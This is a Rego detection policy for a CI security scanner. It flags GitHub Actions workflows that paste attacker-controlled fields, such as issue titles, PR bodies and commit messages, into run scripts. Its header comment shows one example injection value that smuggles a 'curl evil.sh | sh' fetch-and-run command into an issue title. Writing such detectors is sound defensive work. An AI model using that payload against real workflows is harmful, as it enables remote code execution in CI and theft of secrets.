# METADATA
# title: Untrusted input is expanded into a script
# description: |
#   ${{ github.event.issue.title }}, a pull request title or branch name, a
#   commit message … are written by outsiders and pasted into the script
#   before it runs: a title like "a"; curl evil.sh | sh; echo " runs.
# related_resources:
#   - https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
# custom:
#   id: VCH-GHA-0007
#   severity: HIGH
#   remediation: "Pass the value through an environment variable (env: TITLE: ${{ github.event.issue.title }}) and use \"$TITLE\" in the script."
#   inputs: [github-actions]
#   resource_types: ["workflow", "action"]
package vouch.checks.github.script_injection

import data.vouch.lib
import data.vouch.lib.gha

untrusted := `\$\{\{[^}]*(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|pages\.[^}]*\.page_name|commits\.[^}]*\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|head_commit\.(message|author\.(email|name))|display_title|pull_requests\.[^}]*\.head\.ref)|discussion\.(title|body)|release\.(name|body)|inputs\.[^}]*)|github\.head_ref)[^}]*\}\}`

deny contains lib.result_named(r.resource, r.path, r.address, sprintf("script expands untrusted %v", [regex.find_n(untrusted, r.script, 1)[0]])) if {
	some r in gha.runs
	regex.match(untrusted, r.script)
}

deny contains lib.result_named(s.resource, array.concat(s.path, ["with", "script"]), s.address, "github-script expands untrusted input") if {
	some s in gha.steps
	gha.uses_action(s.step, "actions/github-script")
	regex.match(untrusted, s.step["with"].script)
}
